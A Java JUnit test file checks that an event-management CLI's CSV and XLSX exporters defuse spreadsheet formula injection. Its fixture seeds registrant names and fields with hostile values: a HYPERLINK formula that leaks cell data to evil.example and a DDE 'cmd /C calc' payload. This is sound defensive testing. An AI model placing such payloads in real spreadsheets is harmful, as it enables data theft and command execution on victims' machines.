package jp.tsunagu.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.InputStream;
import java.io.Reader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.List;
import jp.tsunagu.event.EventPlan;
import jp.tsunagu.seating.StoreFixture;
import jp.tsunagu.sheet.FormulaGuard;
import jp.tsunagu.store.Database;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.ss.usermodel.Workbook;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Both exporters, over every character that makes a spreadsheet cell a formula. */
class ExportFormulaTest {
    private static final List<String> LEADS = List.of("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠");

    @TempDir
    Path folder;

    private Path store;

    @BeforeEach
    void people() {
        store = folder.resolve("tsunagu.db");
        try (Database database = Database.open(store)) {
            StoreFixture fixture = new StoreFixture(database);
            EventPlan plan = fixture.event("掛川マッチング交流会", LocalDate.of(2026, 12, 5));
            for (String lead : LEADS) {
                fixture.person(
                        plan,
                        lead + "HYPERLINK(\"http://evil.example/?\"&A1,\"山田\")",
                        lead + "cmd|' /C calc'!A0",
                        lead + "1+1",
                        false,
                        lead + "x@example.jp",
                        1,
                        null,
                        null);
            }
        }
        assertThat(CliRun.of(store, "assign").exitCode()).isZero();
    }

    @ParameterizedTest
    @ValueSource(strings = {"registrants", "seating"})
    void noCsvCellStartsAFormula(String what) throws Exception {
        Path csv = folder.resolve(what + ".csv");
        assertThat(CliRun.of(store, "export", what, "--out", csv.toString()).exitCode())
                .isZero();

        int defused = 0;
        try (Reader reader = Files.newBufferedReader(csv, StandardCharsets.UTF_8)) {
            reader.read();
            for (CSVRecord record : CSVFormat.EXCEL.parse(reader)) {
                for (String cell : record) {
                    assertThat(FormulaGuard.isRisky(cell)).as(cell).isFalse();
                    if (cell.startsWith("'")) {
                        assertThat(LEADS).contains(cell.substring(1, 2));
                        defused++;
                    }
                }
            }
        }
        // name, organisation, industry and email of each person
        assertThat(defused).isGreaterThanOrEqualTo(4 * LEADS.size());
    }

    @ParameterizedTest
    @ValueSource(strings = {"registrants", "seating"})
    void noXlsxCellIsAFormulaAndRiskyTextStaysText(String what) throws Exception {
        Path xlsx = folder.resolve(what + ".xlsx");
        assertThat(CliRun.of(store, "export", what, "--out", xlsx.toString()).exitCode())
                .isZero();

        int risky = 0;
        try (InputStream in = Files.newInputStream(xlsx);
                Workbook book = new XSSFWorkbook(in)) {
            for (Sheet sheet : book) {
                for (Row row : sheet) {
                    for (Cell cell : row) {
                        assertThat(cell.getCellType()).isNotEqualTo(CellType.FORMULA);
                        if (cell.getCellType() == CellType.STRING && FormulaGuard.isRisky(cell.getStringCellValue())) {
                            assertThat(cell.getCellStyle().getQuotePrefixed()).isTrue();
                            risky++;
                        }
                    }
                }
            }
        }
        assertThat(risky).isGreaterThanOrEqualTo(3 * LEADS.size());
    }
}
